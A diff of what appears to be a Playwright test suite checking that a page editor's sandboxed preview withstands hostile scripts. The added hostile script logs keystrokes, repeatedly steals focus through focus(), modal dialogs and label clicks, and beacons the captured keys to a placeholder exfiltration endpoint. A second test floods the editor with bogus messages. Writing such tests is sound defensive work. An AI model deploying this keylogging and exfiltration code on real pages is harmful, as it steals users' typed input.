@@ -206,25 +206,45 @@ let captured = '';
 for (const type of ['keydown', 'keypress', 'input']) {
   document.addEventListener(type, (event) => { captured += event.key || event.data || ''; }, true);
 }
-// The plain way, and through a fresh realm's focus, which no patched prototype covers.
-const realm = document.body.appendChild(document.createElement('iframe')).contentWindow;
+// The plain way, and ways that move focus without calling focus(): a modal dialog, a label's click.
+const dialog = document.body.appendChild(document.createElement('dialog'));
+const inDialog = dialog.appendChild(document.createElement('input'));
+const label = document.body.appendChild(document.createElement('label'));
+label.appendChild(document.createElement('input'));
+let turn = 0;
 setInterval(() => {
+  turn++;
   trap.focus();
   window.focus();
-  try { realm.HTMLElement.prototype.focus.call(trap); } catch {}
-  document.body.dataset.captured = captured + '|' + trap.value;
+  if (turn % 3 === 1) { if (dialog.open) dialog.close(); dialog.showModal(); }
+  if (turn % 3 === 2) label.click();
+  document.body.dataset.captured = captured + '|' + trap.value + inDialog.value + label.firstChild.value;
   if (captured || trap.value) new Image().src = '${EXFIL}/keys?d=' + encodeURIComponent(captured + trap.value);
 }, 5);
 document.body.dataset.hostile = 'ran';`);
   await expect(previewBody(page)).toHaveAttribute('data-hostile', 'ran');
   const name = page.getByLabel('Name', { exact: true });
+  // Counts the times the script did take the focus from the editor, to show the attack was real.
+  await page.evaluate(() => {
+    const counter = window as unknown as { focusTaken: number };
+    counter.focusTaken = 0;
+    window.addEventListener('blur', () => counter.focusTaken++);
+  });
   await name.fill('');
   await name.pressSequentially('typed by editor', { delay: 40 });
   await expect(name).toHaveValue('typed by editor');
   await expect(previewBody(page)).toHaveAttribute('data-captured', '|');
-  tried('focus() loop while the editor types', exfiltrated.length > 0 || (await name.inputValue()) !== 'typed by editor');
+  const focusTaken = await page.evaluate(() => (window as unknown as { focusTaken: number }).focusTaken);
+  console.log(`focus taken by the script ${focusTaken} times while typing, and given back`);
+  expect(focusTaken).toBeGreaterThan(0);
+  tried('focus(), showModal() and label clicks in a loop while the editor types', exfiltrated.length > 0 || (await name.inputValue()) !== 'typed by editor');
 
   // A real click puts the keyboard in the preview; typing there works.
+  await page.waitForTimeout(100);
+  await previewBody(page).evaluate(() => {
+    for (let id = 1; id < 10_000; id++) clearInterval(id);
+    document.querySelector('dialog')?.close();
+  });
   await preview(page).locator('#trap').click();
   await page.keyboard.type('in preview');
   await expect(preview(page).locator('#trap')).toHaveValue('in preview');
@@ -232,19 +252,21 @@ document.body.dataset.hostile = 'ran';`);
 });
 
 test('a flood of messages is dropped past each type’s budget, with one notice, and the editor keeps working', async ({ page, host }) => {
+  // About 100,000 messages a run; no timing is asserted, but a loaded machine needs the time.
+  test.setTimeout(120_000);
   await createPage(page, host, 'hostile flood');
   await addComponent(page, 'Main Banner');
   await applyScript(page, `
 let resets = 0;
 window.preview.onCommand((command) => { if (command.type === 'reset') document.body.dataset.resets = String(++resets); });
 const flood = () => {
-  for (let i = 0; i < 20000; i++) window.preview.emit({ type: 'ready' });
-  for (let i = 0; i < 2000; i++) window.preview.emit({ type: 'select', id: 12345 });
-  for (let i = 0; i < 2000; i++) window.preview.emit('garbage');
+  for (let i = 0; i < 5000; i++) window.preview.emit({ type: 'ready' });
+  for (let i = 0; i < 500; i++) window.preview.emit({ type: 'select', id: 12345 });
+  for (let i = 0; i < 500; i++) window.preview.emit('garbage');
 };
 flood();
-const timer = setInterval(flood, 50);
-setTimeout(() => { clearInterval(timer); document.body.dataset.flooded = 'done'; }, 3000);`);
+const timer = setInterval(flood, 100);
+setTimeout(() => { clearInterval(timer); document.body.dataset.flooded = 'done'; }, 2000);`);
   // The editor answers while the flood goes on.
   const title = page.getByRole('textbox', { name: 'Title', exact: true });
   await title.fill('Answered during the flood');
